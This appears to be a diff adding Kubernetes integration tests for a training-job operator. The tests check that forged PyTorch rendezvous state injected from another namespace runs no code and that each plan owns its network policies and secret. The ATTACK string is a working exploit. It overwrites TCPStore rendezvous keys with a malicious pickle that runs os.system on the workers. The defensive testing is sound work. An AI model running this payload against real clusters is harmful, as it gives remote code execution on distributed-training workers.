@@ -1,0 +1,94 @@
+"""What somebody on the pod network can do to a plan, without any right in its namespace.
+
+The test cluster's network enforces no policies: only the signature protects the rendezvous state.
+"""
+
+import json
+import textwrap
+
+import pytest
+import yaml
+
+pytestmark = pytest.mark.kubernetes
+
+ATTACK = """
+import base64, datetime, os, pickle, sys, time
+from torch.distributed import TCPStore
+
+class Payload:
+    def __reduce__(self):
+        return os.system, ("id > /var/run/rightsizer/owned",)
+
+value = base64.b64encode(pickle.dumps(Payload())).decode()
+until, overwritten = time.monotonic() + 120, 0
+while time.monotonic() < until:
+    try:
+        wait = datetime.timedelta(seconds=5)
+        store = TCPStore(sys.argv[1], 29400, is_master=False, wait_for_workers=False, timeout=wait)
+        for name in store.list_keys():
+            if "torch.rendezvous." in name and "/" not in name.strip("/"):
+                store.set(name.strip("/"), value)
+                overwritten += 1
+                print("overwritten", overwritten, name, flush=True)
+    except Exception as error:
+        print(type(error).__name__, str(error)[:200], flush=True)
+    time.sleep(0.5)
+"""
+OWNED = "own/var/lib/kubelet/pods/{}/volumes/kubernetes.io~empty-dir/rightsizer-run/owned"
+
+
+@pytest.fixture
+def attacker(cluster):
+    """attacker(host): a pod in a namespace of its own that overwrites each rendezvous state of the store."""
+    cluster.kubectl("create", "namespace", "attacker")
+    cluster.wait("an account", lambda: bool(cluster.get("serviceaccounts", namespace="attacker")["items"]))
+
+    def attack(host):
+        container = {
+            "name": "attacker",
+            "image": "ghcr.io/acme/train:1.4",
+            "command": ["python", "-c", textwrap.dedent(ATTACK), host],
+        }
+        spec = {"restartPolicy": "Never", "terminationGracePeriodSeconds": 0, "containers": [container]}
+        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "attacker"}, "spec": spec}
+        cluster.apply(yaml.safe_dump(pod), "attacker")
+        return lambda: cluster.logs("attacker", "attacker").count("overwritten")
+
+    yield attack
+    cluster.kubectl("delete", "namespace", "attacker", "--wait=false")
+
+
+def owned(run):
+    """Workers in which the attacker's command has run."""
+    root = run.cluster.kubeconfig.parent
+    paths = [
+        root / pod["spec"].get("nodeName", "") / OWNED.format(pod["metadata"]["uid"]) for pod in run.pods()
+    ]
+    return [path for path in paths if path.exists()]
+
+
+def test_a_forged_rendezvous_state_runs_nothing_and_the_plan_trains_on(start, attacker):
+    run = start()
+    run.steps_with(2)
+    overwritten = attacker(f"{run.name}-rdzv.{run.namespace}.svc")
+    run.cluster.wait("an attack", lambda: overwritten() > 5)
+    pod = run.pods()[0]["metadata"]["name"]
+    run.kubectl("delete", "pod", pod, "--grace-period=0", "--force")  # the workers must meet again
+    run.cluster.wait("another attack", lambda: overwritten() > 20)
+    assert not owned(run)
+    run.kubectl("delete", "pod", "attacker", "--namespace=attacker", "--wait")
+    before = run.last()[2]
+    run.steps_with(2, after=before)
+    assert not owned(run)
+
+
+def test_a_plan_s_policies_and_key_are_its_own(start, api):
+    run = start()
+    run.cluster.wait("a Job", lambda: bool(run.jobs))
+    policies = json.loads(run.kubectl("get", "networkpolicies", "--output=json"))["items"]
+    names = {policy["metadata"]["name"] for policy in policies}
+    assert names == {f"{run.name}-rendezvous", f"{run.name}-worker"}
+    (secret,) = (s for s in json.loads(run.kubectl("get", "secrets", "--output=json"))["items"])
+    owners = {p["metadata"]["ownerReferences"][0]["uid"] for p in [*policies, secret]}
+    plan = json.loads(run.kubectl("get", "tp", run.name, "--output=json"))
+    assert owners == {plan["metadata"]["uid"]}
